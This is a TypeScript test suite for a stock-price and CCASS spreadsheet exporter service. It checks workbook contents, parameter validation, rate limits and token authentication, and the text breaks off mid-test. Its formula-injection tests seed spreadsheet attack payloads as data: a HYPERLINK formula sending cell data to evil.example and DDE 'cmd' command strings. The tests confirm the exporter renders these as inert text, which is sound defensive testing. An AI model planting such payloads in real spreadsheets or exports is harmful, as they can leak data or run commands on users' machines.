import { once } from 'node:events';
import { request as httpRequest } from 'node:http';
import { PassThrough } from 'node:stream';
import { Value } from '@sinclair/typebox/value';
import type ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ErrorCodes, HarbourError } from '../../contracts/index.ts';
import {
  cellValue,
  dmy,
  findSoffice,
  goldPrices,
  libreOfficeCsv,
  readWorkbook,
  sheetRows,
  shown,
} from '../../test/support/exporter.ts';
import { createGoldTables, reserveCcassChanges, seedGold } from '../../test/support/gold.ts';
import { freshDatabase, testDir } from '../../test/support/infra.ts';
import { SHEET_COLUMNS, safeText, stockSheetName, writeWorkbook } from '../gold/index.ts';
import { createHealthRegistry, createRegistry, silentLogger } from '../runtime/index.ts';
import { ExporterConfig, type ExporterService, startExporter } from './index.ts';

const FROM = '2025-11-03';
const TO = '2026-10-30';
const CODES = ['00700', '00005', '02319'];
const NAMES: Record<string, string> = {
  '00700': 'TENCENT',
  '00005': 'HSBC HOLDINGS',
  '02319': 'MENGNIU DAIRY',
};

let db: Awaited<ReturnType<typeof freshDatabase>>;
let exporter: ExporterService;
const deps = () => ({
  pool: db.pool,
  logger: silentLogger(),
  registry: createRegistry({ defaultMetrics: false }),
  health: createHealthRegistry(),
});
const config = (over: Partial<ExporterConfig> = {}): ExporterConfig => ({
  ...(Value.Default(ExporterConfig, {}) as ExporterConfig),
  port: 0,
  maxConcurrentExports: 1,
  exportWaitMs: 2000,
  ...over,
});

beforeAll(async () => {
  db = await freshDatabase();
  // drop() terminates the database's sessions; an idle pooled client may hear about it after pool.end().
  db.pool.on('error', () => {});
  await createGoldTables(db.pool);
  await seedGold(db.pool, { from: '2025-10-01', to: TO });
  exporter = await startExporter(config(), deps());
});
afterAll(async () => {
  await exporter?.close();
  await db?.drop();
});

const exportUrl = (q: Record<string, string>) => `${exporter.url}/export.xlsx?${new URLSearchParams(q)}`;

/** A copy of 00700's gold prices under another code and name (for names a test needs). */
async function copyStock(code: string, name: string): Promise<void> {
  await db.pool.query(
    `insert into gold.daily_prices select $1, trade_date, $2, currency, status, open, high, low, close,
       prev_close, change_pct, volume, turnover, directed_volume from gold.daily_prices where code = '00700'`,
    [code, name],
  );
}

/** Downloads the export of `q` (over `FROM`…`TO` unless it says otherwise) once the exporter is idle again. */
async function download(q: Record<string, string>): Promise<{ res: Response; bytes: Uint8Array }> {
  const res = await fetch(exportUrl({ from: FROM, to: TO, ...q }));
  const bytes = new Uint8Array(await res.arrayBuffer());
  await exportsIdle();
  return { res, bytes };
}

/** Waits until the exporter has finished its bookkeeping of every export (the client may see the last byte first). */
async function exportsIdle(url = exporter.url): Promise<void> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const m = await (await fetch(`${url}/metrics`)).text();
    if (/harbour_exporter_exports_in_flight 0/.test(m)) return;
    if (Date.now() > deadline) throw new Error(`export slot not freed:\n${m}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

/** The cell style's font colour (argb) or undefined. */
const fontColor = (c: ExcelJS.Cell) => (c.font?.color as { argb?: string } | undefined)?.argb;

describe('GET /export.xlsx, read back with exceljs', () => {
  let wb: ExcelJS.Workbook;
  let res: Response;

  beforeAll(async () => {
    const d = await download({ codes: '00700,5,02319,99999', sheets: 'ccass,summary,prices' });
    res = d.res;
    expect(res.status).toBe(200);
    wb = await readWorkbook(d.bytes);
  });

  it('answers with an xlsx attachment and lists the unknown code in a header', () => {
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="harbour-4-stocks-${FROM}-${TO}.xlsx"`,
    );
    expect(res.headers.get('x-harbour-unknown-codes')).toBe('99999');
  });

  it('has Summary, then each stock sheet followed by its CCASS sheet', () => {
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Summary',
      '00700 TENCENT',
      'CCASS 00700',
      '00005 HSBC HOLDINGS',
      'CCASS 00005',
      '02319 MENGNIU DAIRY',
      'CCASS 02319',
    ]);
  });

  it('Summary: title, frozen header, one row per asked code with values from gold, unknown code noted', async () => {
    const ws = wb.getWorksheet('Summary')!;
    expect(String(cellValue(ws.getCell('A1')))).toContain(`${dmy(FROM)} to ${dmy(TO)}`);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    const [header, ...rows] = sheetRows(ws, 2);
    expect(header).toEqual([...SHEET_COLUMNS.summary]);
    expect(rows.slice(0, 4).map((r) => r[0])).toEqual([...CODES, '99999']);
    for (const [i, code] of CODES.entries()) {
      const { rows: g } = await db.pool.query(
        `select p.close::float8 as close, p.change_pct::float8 as chg, p.trade_date::text as d,
                (select pe::float8 from gold.stock_picker where code = $1 and as_of <= $3 order by as_of desc limit 1) as pe,
                (select dividend_yield::float8 from gold.stock_picker where code = $1 and as_of <= $3 order by as_of desc limit 1) as dy,
                r.dv_30d_trading::float8 as dv30,
                (select top10_pct::float8 from gold.ccass_concentration where code = $1 and holding_date <= $3 order by holding_date desc limit 1) as top10
         from gold.daily_prices p
         join gold.rolling_directed_volume r on r.code = p.code and r.trade_date = p.trade_date
         where p.code = $1 and p.trade_date between $2 and $3 and p.close is not null
         order by p.trade_date desc limit 1`,
        [code, FROM, TO],
      );
      const e = g[0];
      const mtd = (await goldPrices(db.pool, code, FROM, TO)).find((p) => p.date === e.d)!;
      expect(rows[i]?.slice(0, 12)).toEqual([
        code,
        NAMES[code],
        e.close,
        e.chg,
        e.pe,
        e.dy,
        mtd.monthHigh,
        mtd.monthHighDate,
        mtd.monthLow,
        mtd.monthLowDate,
        e.dv30,
        e.top10,
      ]);
    }
    expect(rows[3]?.[1]).toBeNull();
    expect(rows[3]?.[12]).toMatch(/unknown code/);
    // The Notes block under the table names the unknown code and the as-of date.
    const notes = rows.slice(5).map((r) => r[0]);
    expect(notes[0]).toBe('Notes');
    expect(notes.join('\n')).toMatch(/as of 30\/10\/2026/);
    expect(notes.join('\n')).toMatch(/Unknown codes \(no prices for them in Harbour, no sheets\): 99999\./);
    // Widths fit the header and the values.
    SHEET_COLUMNS.summary.forEach((h, i) => {
      expect(ws.getColumn(i + 1).width ?? 0).toBeGreaterThanOrEqual(h.length);
    });
  });

  it('stock sheets: every gold row, in order, with formats, red negatives and fitting widths', async () => {
    for (const code of CODES) {
      const ws = wb.getWorksheet(stockSheetName(code, NAMES[code] as string))!;
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
      expect(String(cellValue(ws.getCell('A1')))).toBe(
        `${code} ${NAMES[code]}: daily prices ${dmy(FROM)} to ${dmy(TO)}`,
      );
      expect(ws.getCell('A1').font?.bold).toBe(true);
      const [header, ...rows] = sheetRows(ws, 2);
      expect(header).toEqual([...SHEET_COLUMNS.prices]);
      const gold = await goldPrices(db.pool, code, FROM, TO);
      expect(gold.length).toBeGreaterThan(240);
      expect(rows).toEqual(
        gold.map((g) => [
          g.date,
          g.open,
          g.high,
          g.low,
          g.close,
          g.change,
          g.volume,
          g.turnover,
          g.dv,
          g.dv30,
          g.monthHigh,
          g.monthHighDate,
          g.monthLow,
          g.monthLowDate,
        ]),
      );
      // Formats on a data row.
      const r3 = ws.getRow(3);
      expect(r3.getCell(1).numFmt).toBe('dd/mm/yyyy');
      expect(r3.getCell(7).numFmt).toBe('#,##0');
      expect(r3.getCell(8).numFmt).toBe('#,##0');
      expect(r3.getCell(9).numFmt).toBe('#,##0;[Red]-#,##0');
      // Negative directed volume is red, positive is not.
      let negatives = 0;
      for (let r = 3; r <= ws.rowCount; r++) {
        const c = ws.getRow(r).getCell(9);
        if (typeof c.value === 'number' && c.value < 0) {
          negatives++;
          expect(fontColor(c)).toBe('FFC00000');
        } else if (typeof c.value === 'number' && c.value > 0) expect(fontColor(c)).toBeUndefined();
      }
      expect(negatives).toBeGreaterThan(10);
      // Widths fit headers and the widest formatted value.
      const widest = (i: number, d: number) =>
        Math.max(...gold.map((g) => shown(Object.values(g)[i] as number | null, d).length));
      expect(ws.getColumn(7).width ?? 0).toBeGreaterThanOrEqual(widest(7, 0));
      expect(ws.getColumn(8).width ?? 0).toBeGreaterThanOrEqual(widest(8, 0));
      SHEET_COLUMNS.prices.forEach((h, i) => {
        expect(ws.getColumn(i + 1).width ?? 0, h).toBeGreaterThanOrEqual(h.length);
      });
    }
  });

  it('keeps suspended days (blank prices) and leaves Open blank when no source gives it', async () => {
    const ws = wb.getWorksheet('02319 MENGNIU DAIRY')!;
    const rows = sheetRows(ws, 3);
    const gold = await goldPrices(db.pool, '02319', FROM, TO);
    const suspended = gold.flatMap((g, i) => (g.status === 'suspended' ? [i] : []));
    expect(suspended).toHaveLength(5);
    for (const i of suspended)
      expect(rows[i]?.slice(1, 9)).toEqual([null, null, null, null, null, null, null, null]);
    expect(rows.filter((r) => r[1] === null).length).toBeGreaterThan(200);
    expect(rows.filter((r) => r[1] !== null).length).toBe(20);
  });

  it('CCASS sheets list the largest holders on the last holding date with their change', async () => {
    const ws = wb.getWorksheet('CCASS 00700')!;
    const [header, ...rows] = sheetRows(ws, 2);
    expect(header).toEqual([...SHEET_COLUMNS.ccass]);
    const { rows: g } = await db.pool.query(
      `select x.participant_id as id, x.participant_name as name, x.shareholding::float8 as holding,
              x.shareholding::float8 / c.issued_shares::float8 * 100 as pct, x.change_shares::float8 as chg,
              x.change_pct_issued::float8 as chgpct, x.kind, x.holding_date::text as d
       from gold.ccass_changes x join gold.ccass_concentration c using (code, holding_date)
       where x.code = '00700' and x.holding_date = (select max(holding_date) from gold.ccass_changes where code = '00700')
       order by x.shareholding desc`,
    );
    expect(rows.length).toBe(g.length);
    rows.forEach((r, i) => {
      const e = g[i];
      expect(r.slice(0, 4)).toEqual([i + 1, e.id, e.name, e.holding]);
      expect(r[4] as number).toBeCloseTo(e.pct, 9);
      expect(r.slice(5)).toEqual([e.chg, e.chgpct, e.kind]);
    });
    expect(String(cellValue(ws.getCell('A1')))).toContain(`holdings on ${dmy(g[0].d)}`);
  });
});

describe('LibreOffice headless', () => {
  it('converts every sheet to CSV showing the same values as gold, formatted', async (ctx) => {
    const soffice = await findSoffice();
    if (!soffice) {
      console.warn(
        'skipping the LibreOffice check: soffice is not installed (apt-get install libreoffice-calc)',
      );
      ctx.skip();
      return;
    }
    const { res, bytes } = await download({ codes: '00700,02319,99999', sheets: 'summary,prices,ccass' });
    expect(res.status).toBe(200);
    const sheets = await libreOfficeCsv(soffice, bytes, await testDir('lo'));
    expect([...sheets.keys()].sort()).toEqual(
      ['00700 TENCENT', '02319 MENGNIU DAIRY', 'CCASS 00700', 'CCASS 02319', 'Summary'].sort(),
    );
    for (const code of ['00700', '02319']) {
      const csv = sheets.get(stockSheetName(code, NAMES[code] as string))!;
      expect(csv[1]).toEqual([...SHEET_COLUMNS.prices]);
      const gold = await goldPrices(db.pool, code, FROM, TO);
      const data = csv.slice(2).filter((r) => r.some((c) => c !== ''));
      expect(data.length).toBe(gold.length);
      data.forEach((r, i) => {
        const g = gold[i]!;
        expect(r).toEqual([
          dmy(g.date),
          shown(g.open, 3, 2),
          shown(g.high, 3, 2),
          shown(g.low, 3, 2),
          shown(g.close, 3, 2),
          shown(g.change, 2),
          shown(g.volume, 0),
          shown(g.turnover, 0),
          shown(g.dv, 0),
          shown(g.dv30, 0),
          shown(g.monthHigh, 3, 2),
          g.monthHighDate ? dmy(g.monthHighDate) : '',
          shown(g.monthLow, 3, 2),
          g.monthLowDate ? dmy(g.monthLowDate) : '',
        ]);
      });
    }
    const summary = sheets.get('Summary')!;
    expect(summary.slice(2, 5).map((r) => r[0])).toEqual(['00700', '02319', '99999']);
  }, 90_000);
});

describe('parameters', () => {
  const cases: [string, Record<string, string>, string, RegExp][] = [
    ['bad code', { codes: '00700,ABC', from: FROM, to: TO }, 'codes', /codes/],
    ['code too long', { codes: '123456', from: FROM, to: TO }, 'codes', /codes/],
    ['zero code', { codes: '0', from: FROM, to: TO }, 'codes', /not an HKEX stock code/],
    ['from after to', { codes: '00700', from: TO, to: FROM }, 'from', /after to/],
    ['range too long', { codes: '00700', from: '2010-01-01', to: TO }, 'to', /at most 3660/],
    [
      'unknown sheet',
      { codes: '00700', from: FROM, to: TO, sheets: 'summary,pivot' },
      'sheets',
      /unknown sheet "pivot"/,
    ],
    ['not a date', { codes: '00700', from: '2026-02-30', to: TO }, 'from', /not a date/],
    [
      'bad date shape',
      { codes: '00700', from: '30/10/2026', to: TO },
      'from',
      /from "30\/10\/2026" is invalid/,
    ],
    ['missing to', { codes: '00700', from: FROM }, 'to', /to is required/],
    [
      'unknown parameter',
      { codes: '00700', from: FROM, to: TO, format: 'csv' },
      'format',
      /unknown parameter "format"/,
    ],
  ];
  it.each(cases)('%s → 400 naming the parameter', async (_name, q, parameter, message) => {
    const res = await fetch(exportUrl(q));
    expect(res.status).toBe(400);
    const body = (await res.json()) as { error: string; parameter: string; message: string };
    expect(body).toMatchObject({ error: 'bad_parameter', code: 'HARBOUR_ERR_BAD_PARAMETER', parameter });
    expect(body.message).toMatch(message);
  });

  it('too many codes → 400; repeated parameter → 400', async () => {
    const many = Array.from({ length: 201 }, (_, i) => String(i + 1)).join(',');
    const res = await fetch(exportUrl({ codes: many, from: FROM, to: TO }));
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({
      parameter: 'codes',
      message: expect.stringMatching(/at most 200/),
    });
    const twice = await fetch(`${exporter.url}/export.xlsx?codes=00700&codes=00005&from=${FROM}&to=${TO}`);
    expect(twice.status).toBe(400);
    expect(await twice.json()).toMatchObject({ parameter: 'codes' });
  });

  it('the JSON API validates the same way', async () => {
    const bad = await fetch(`${exporter.url}/api/prices?code=7x&from=${FROM}&to=${TO}`);
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ parameter: 'code' });
    const badDate = await fetch(`${exporter.url}/api/ccass?code=700&date=2026-13-01`);
    expect(badDate.status).toBe(400);
    expect(await badDate.json()).toMatchObject({ parameter: 'date' });
    const unknown = await fetch(`${exporter.url}/api/prices?code=99999&from=${FROM}&to=${TO}`);
    expect(unknown.status).toBe(404);
  });

  it('refuses over-long URLs (414) and request bodies (413)', async () => {
    const long = await fetch(`${exporter.url}/api/stocks?q=${'x'.repeat(5000)}`);
    expect(long.status).toBe(414);
    const status = await new Promise<number>((resolve, reject) => {
      const url = new URL(`${exporter.url}/api/stocks?q=a`);
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          path: `${url.pathname}${url.search}`,
          method: 'GET',
          headers: { 'content-length': 5000 },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on('error', reject);
      req.end('x'.repeat(5000));
    });
    expect(status).toBe(413);
  });
});

describe('JSON API for the page', () => {
  it('looks names up by name or code, serves prices and CCASS holders', async () => {
    const byName = (await (await fetch(`${exporter.url}/api/stocks?q=tenc`)).json()) as { stocks: unknown[] };
    expect(byName.stocks).toEqual([{ code: '00700', name: 'TENCENT' }]);
    const byCode = (await (await fetch(`${exporter.url}/api/stocks?q=231`)).json()) as { stocks: unknown[] };
    expect(byCode.stocks).toEqual([{ code: '02319', name: 'MENGNIU DAIRY' }]);
    const prices = (await (
      await fetch(`${exporter.url}/api/prices?code=700&from=${FROM}&to=${TO}`)
    ).json()) as {
      name: string;
      rows: { date: string; close: number | null }[];
    };
    const gold = await goldPrices(db.pool, '00700', FROM, TO);
    expect(prices.name).toBe('TENCENT');
    expect(prices.rows.map((r) => [r.date, r.close])).toEqual(gold.map((g) => [g.date, g.close]));
    const ccass = (await (await fetch(`${exporter.url}/api/ccass?code=00005`)).json()) as {
      holders: { shareholding: number }[];
      holdingDate: string;
    };
    expect(ccass.holders).toHaveLength(13);
    expect(ccass.holders.map((h) => h.shareholding)).toEqual(
      [...ccass.holders.map((h) => h.shareholding)].sort((a, b) => b - a),
    );
  });

  it('serves /healthz and /metrics', async () => {
    const h = await fetch(`${exporter.url}/healthz`);
    expect(h.status).toBe(200);
    expect(await h.json()).toMatchObject({ ok: true, checks: { exporter: { ok: true } } });
    const m = await (await fetch(`${exporter.url}/metrics`)).text();
    expect(m).toMatch(/harbour_exporter_requests_total\{route="\/export.xlsx",status="200"\} \d+/);
    expect(m).toMatch(/harbour_exporter_rows_written_total \d+/);
  });
});

describe('formula injection', () => {
  it('writes text cells from data as inline strings shown as given, never formulas (= + - @)', async () => {
    const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await copyStock('08888', evilName);
    // CCASS is served per set (gold.ccass_changes is a view): re-serve 00700's dates with 08888 added.
    const { rows: dates } = await db.pool.query<{ d: string }>(
      `select holding_date::text as d from gold.ccass_change_sets where code = '00700'`,
    );
    await reserveCcassChanges(
      db.pool,
      dates.map((r) => r.d),
      (client, stage) =>
        client.query(
          `insert into ${stage} select '08888', holding_date, prev_holding_date, participant_key, participant_id,
             case participant_key when 'C00019' then '+cmd|'' /C calc''!A0' when 'C00010' then '@SUM(1+1)*cmd|'' /C calc''!A0'
                  when 'C00039' then '-2+3+cmd|'' /C calc''!A0' else participant_name end,
             shareholding, prev_shareholding, kind, issued_shares from ${stage} where code = '00700'`,
        ),
    );
    await db.pool.query(
      `insert into gold.ccass_concentration select '08888', holding_date, issued_shares, participants, top5_pct, top10_pct,
         intermediaries_pct, consenting_pct, non_consenting_pct from gold.ccass_concentration where code = '00700'`,
    );
    const { res, bytes } = await download({ codes: '08888', sheets: 'summary,prices,ccass' });
    expect(res.status).toBe(200);
    const wb = await readWorkbook(bytes);
    const texts: string[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined();
          expect(cell.type).not.toBe(6); // ValueType.Formula
          const v = cellValue(cell);
          if (typeof v === 'string' && cell.type !== 4 /* Date */) {
            // An inline string (read back as rich text), not a plain/formula-result string (t="str").
            expect(cell.type, v).toBe(8); // ValueType.RichText
            texts.push(v);
          }
        }),
      );
    }
    // Shown exactly as given: no quote in front.
    expect(texts).toContain(evilName);
    expect(texts).toContain(`+cmd|' /C calc'!A0`);
    expect(texts).toContain(`@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(texts).toContain(`-2+3+cmd|' /C calc'!A0`);
    expect(texts.some((t) => t.startsWith("'"))).toBe(false);
    // The sheet name is cleaned of characters a sheet name cannot hold.
    expect(wb.worksheets[1]?.name).toBe(stockSheetName('08888', evilName));
    expect(wb.worksheets[1]?.name.length).toBeLessThanOrEqual(31);
    expect(safeText('\u0001=1')).toBe('=1');
  });

  it('a name with leading whitespace before = stays text in LibreOffice: shown as given, not evaluated', async (ctx) => {
    await copyStock('08887', ' =1+1');
    const soffice = await findSoffice();
    if (!soffice) {
      console.warn('skipping: soffice is not installed (apt-get install libreoffice-calc)');
      ctx.skip();
      return;
    }
    const { res, bytes } = await download({ codes: '08887', sheets: 'summary' });
    expect(res.status).toBe(200);
    const sheets = await libreOfficeCsv(soffice, bytes, await testDir('lo-formula'));
    const summary = sheets.get('Summary')!;
    // Row 3 is the stock: its name exactly as given (leading space kept, no quote, not 2).
    expect(summary[2]?.slice(0, 2)).toEqual(['08887', ' =1+1']);
  }, 90_000);
});

describe('limits and safety', () => {
  it('answers 429 while the export slots are taken, then finishes the running export', async () => {
    const client = await db.pool.connect();
    try {
      await client.query('begin');
      await client.query('lock table gold.daily_prices in access exclusive mode');
      const first = fetch(exportUrl({ codes: '00700', from: FROM, to: TO }));
      const deadline = Date.now() + 10_000;
      for (;;) {
        const { rows } = await db.pool.query(
          "select count(*)::int as n from pg_stat_activity where wait_event_type = 'Lock' and datname = current_database()",
        );
        if (rows[0].n > 0) break;
        if (Date.now() > deadline) throw new Error('export never started');
        await new Promise((r) => setTimeout(r, 50));
      }
      const second = await fetch(exportUrl({ codes: '00005', from: FROM, to: TO }));
      expect(second.status).toBe(429);
      expect(second.headers.get('retry-after')).toBe('5');
      expect(await second.json()).toMatchObject({ error: 'busy', code: 'HARBOUR_ERR_BUSY' });
      await client.query('commit');
      const res = await first;
      expect(res.status).toBe(200);
      const wb = await readWorkbook(new Uint8Array(await res.arrayBuffer()));
      expect(wb.worksheets.map((w) => w.name)).toEqual(['Summary', '00700 TENCENT']);
    } finally {
      client.release();
    }
    // The slot is free again.
    await exportsIdle();
    const again = await fetch(exportUrl({ codes: '00005', from: FROM, to: TO }));
    expect(again.status).toBe(200);
    await again.arrayBuffer();
    await exportsIdle();
  });

  it('frees the slot when the client goes away mid-download', async () => {
    const ctrl = new AbortController();
    const res = await fetch(
      exportUrl({ codes: CODES.join(','), from: '2025-10-01', to: TO, sheets: 'prices' }),
      {
        signal: ctrl.signal,
      },
    );
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    await reader.read();
    ctrl.abort();
    await reader.cancel().catch(() => {});
    await exportsIdle();
    expect(await (await fetch(`${exporter.url}/metrics`)).text()).toMatch(
      /harbour_exporter_exports_total\{outcome="aborted"\} 1/,
    );
    const next = await fetch(exportUrl({ codes: '00700', from: FROM, to: TO }));
    expect(next.status).toBe(200);
    await next.arrayBuffer();
  });

  it('requires a bearer token when one is configured; refuses a non-loopback bind without one', async () => {
    await expect(startExporter(config({ host: '0.0.0.0' }), deps())).rejects.toSatisfy(
      (e: unknown) => e instanceof HarbourError && e.code === ErrorCodes.Config && /token/.test(e.message),
    );
    await expect(startExporter(config({ token: 'short' }), deps())).rejects.toThrow(/at least 16/);
    const token = 'a-very-secret-token-123';
    const guarded = await startExporter(config({ token }), deps());
    try {
      const q = `codes=00700&from=${FROM}&to=${TO}`;
      const none = await fetch(`${guarded.url}/export.xlsx?${q}`);
      expect(none.status).toBe(401);
      expect(none.headers.get('www-authenticate')).toMatch(/^Bearer/);
      expect(await none.json()).toMatchObject({ error: 'unauthorized', code: 'HARBOUR_ERR_UNAUTHORIZED' });
      const wrong = await fetch(`${guarded.url}/api/stocks?q=ten`, {
        headers: { authorization: 'Bearer nope' },
      });
      expect(wrong.status).toBe(401);
      const basic = await fetch(`${guarded.url}/api/stocks?q=ten`, {
        headers: { authorization: `Basic ${token}` },
      });
      expect(basic.status).toBe(401);
      const ok = await fetch(`${guarded.url}/export.xlsx?${q}`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(ok.status).toBe(200);
      await ok.arrayBuffer();
      // The page, health and metrics stay open (no data in them).
      expect((await fetch(`${guarded.url}/`)).status).toBe(200);
      expect((await fetch(`${guarded.url}/healthz`)).status).toBe(200);
      expect((await fetch(`${guarded.url}/metrics`)).status).toBe(200);
    } finally {
      await guarded.close();
    }
  });
});

/** A GET from a given local address (127.0.0.x: another client as the exporter sees it). */
function getFrom(localAddress: string, url: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { localAddress }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('latin1') }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

/** One numeric sample of /metrics (summed over labels when `labels` is omitted). */
async function metric(name: string, labels?: string): Promise<number> {
  const text = await (await fetch(`${exporter.url}/metrics`)).text();
  let sum = 0;
  for (const line of text.split('\n')) {
    if (line.startsWith('#')) continue;
    const m = /^([a-z_]+)(\{[^}]*\})? (\S+)$/.exec(line);
    if (m?.[1] === name && (labels === undefined || m[2] === labels)) sum += Number(m[3]);
  }
  return sum;
}

describe('a client that does not read', () => {
  it('holds the export at its pace: nothing piles up while the output is unread, every row once it reads', async () => {
    const out = new PassThrough({ highWaterMark: 1024 });
    let rows = 0;
    const params = { codes: CODES, from: FROM, to: TO, sheets: ['prices' as const] };
    const writing = writeWorkbook(db.pool, params, out, { batchRows: 50, onRows: (n) => (rows += n) });
    let finished = false;
    void writing.then(() => (finished = true));
    await new Promise((r) => setTimeout(r, 1500));
    let total = 0;
    for (const code of CODES) total += (await goldPrices(db.pool, code, FROM, TO)).length;
    expect(finished).toBe(false);
    expect(rows).toBeLessThanOrEqual(total / 3);
    const chunks: Buffer[] = [];
    const ended = once(out, 'end');
    out.on('data', (c: Buffer) => chunks.push(c));
    const stats = await writing;
    await ended;
    expect(stats.rows).toBe(total);
    const wb = await readWorkbook(Buffer.concat(chunks));
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Summary',
      ...CODES.map((c) => stockSheetName(c, NAMES[c]!)),
    ]);
  });
});

describe('export slots and HEAD', () => {
  it('one client downloading 50 workbooks strictly one after another gets 50 × 200', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 50; i++) {
      const res = await fetch(exportUrl({ codes: '00700', from: '2026-10-01', to: TO, sheets: 'prices' }));
      const bytes = new Uint8Array(await res.arrayBuffer());
      statuses.push(res.status);
      if (res.status !== 200) throw new Error(`download ${i + 1}: ${res.status} ${Buffer.from(bytes)}`);
    }
    expect(statuses).toEqual(Array(50).fill(200));
    await exportsIdle();
  }, 120_000);

  it('HEAD answers the headers without building a workbook or taking a slot', async () => {
    const built = await metric('harbour_exporter_exports_total');
    const rows = await metric('harbour_exporter_rows_written_total');
    const res = await fetch(exportUrl({ codes: '00700,99999', from: FROM, to: TO }), { method: 'HEAD' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="harbour-00700-99999-${FROM}-${TO}.xlsx"`,
    );
    expect(res.headers.get('x-harbour-unknown-codes')).toBe('99999');
    const none = await fetch(exportUrl({ codes: '99998', from: FROM, to: TO }), { method: 'HEAD' });
    expect(none.status).toBe(404);
    const bad = await fetch(exportUrl({ codes: '00700', from: TO, to: FROM }), { method: 'HEAD' });
    expect(bad.status).toBe(400);
    // Nothing was built: no export counted, no row written, no slot held.
    expect(await metric('harbour_exporter_exports_total')).toBe(built);
    expect(await metric('harbour_exporter_rows_written_total')).toBe(rows);
    expect(await metric('harbour_exporter_exports_in_flight')).toBe(0);
  });

  it('while a slot is held: the same client hears its own export runs, another client hears others do; a waiting request gets the freed slot', async () => {
    const client = await db.pool.connect();
    try {
      await client.query('begin');
      await client.query('lock table gold.daily_prices in access exclusive mode');
      const first = getFrom('127.0.0.1', exportUrl({ codes: '00700', from: FROM, to: TO }));
      const deadline = Date.now() + 10_000;
      while ((await metric('harbour_exporter_exports_in_flight')) < 1) {
        if (Date.now() > deadline) throw new Error('export never started');
        await new Promise((r) => setTimeout(r, 25));
      }
      const [own, other] = await Promise.all([
        getFrom('127.0.0.1', exportUrl({ codes: '00005', from: FROM, to: TO })),
        getFrom('127.0.0.2', exportUrl({ codes: '00005', from: FROM, to: TO })),
      ]);
      expect(own.status).toBe(429);
      expect(JSON.parse(own.body)).toMatchObject({ error: 'busy', reason: 'own' });
      expect(JSON.parse(own.body).message).toMatch(/your previous export .* is still being downloaded/);
      expect(other.status).toBe(429);
      expect(JSON.parse(other.body)).toMatchObject({ error: 'busy', reason: 'others' });
      expect(JSON.parse(other.body).message).toMatch(/1 export\(s\) by other users are running/);
      // A request that arrives now waits; the lock goes, the first export ends, the waiter gets its slot.
      const waiting = getFrom('127.0.0.2', exportUrl({ codes: '00005', from: FROM, to: TO }));
      await new Promise((r) => setTimeout(r, 200));
      await client.query('commit');
      expect((await first).status).toBe(200);
      expect((await waiting).status).toBe(200);
    } finally {
      client.release();
    }
    await exportsIdle();
  });
});

describe('workbook semantics', () => {
  it('a mid-month from date: each daily row shows the month-to-date high/low of the rows up to that day only', async () => {
    const from = '2026-03-17';
    const to = '2026-05-15';
    const { res, bytes } = await download({ codes: '00700', from, to, sheets: 'prices' });
    expect(res.status).toBe(200);
    const ws = (await readWorkbook(bytes)).getWorksheet('00700 TENCENT')!;
    const rows = sheetRows(ws, 3);
    // Independently: every gold row of the month from its 1st (also before `from`), up to the day.
    const { rows: all } = await db.pool.query<{ date: string; high: number | null; low: number | null }>(
      `select trade_date::text as date, high::float8 as high, low::float8 as low from gold.daily_prices
       where code = '00700' and trade_date between '2026-03-01' and $1 order by trade_date`,
      [to],
    );
    const inRange = all.filter((g) => g.date >= from);
    expect(rows.map((r) => r[0])).toEqual(inRange.map((g) => g.date));
    let lookedAhead = 0;
    for (const r of rows) {
      const day = r[0] as string;
      const known = all.filter((g) => g.date.slice(0, 7) === day.slice(0, 7) && g.date <= day);
      const hi = Math.max(...known.map((g) => g.high as number));
      const lo = Math.min(...known.map((g) => g.low as number));
      expect(r.slice(10, 14), day).toEqual([
        hi,
        known.find((g) => g.high === hi)?.date,
        lo,
        known.find((g) => g.low === lo)?.date,
      ]);
      // The month's final high is often reached after the day: a look-ahead would differ.
      const month = all.filter((g) => g.date.slice(0, 7) === day.slice(0, 7));
      if (Math.max(...month.map((g) => g.high as number)) !== hi) lookedAhead++;
    }
    expect(lookedAhead).toBeGreaterThan(5);
    // 17/03 already knows the March rows before `from`.
    const march = all.filter((g) => g.date < from);
    expect(march.length).toBeGreaterThan(5);
    expect(rows[0]?.[10]).toBe(Math.max(...all.filter((g) => g.date <= from).map((g) => g.high as number)));
  });

  it('unknown codes are always listed: Summary with Notes even with sheets=prices, header; none known → 404 naming them', async () => {
    const { res, bytes } = await download({ codes: '700,5,99999', sheets: 'prices' });
    expect(res.status).toBe(200);
    expect(res.headers.get('x-harbour-unknown-codes')).toBe('99999');
    const wb = await readWorkbook(bytes);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Summary', '00700 TENCENT', '00005 HSBC HOLDINGS']);
    const summary = sheetRows(wb.getWorksheet('Summary')!, 3);
    expect(summary.slice(0, 3).map((r) => r[0])).toEqual(['00700', '00005', '99999']);
    expect(summary.map((r) => r[0]).join('\n')).toMatch(
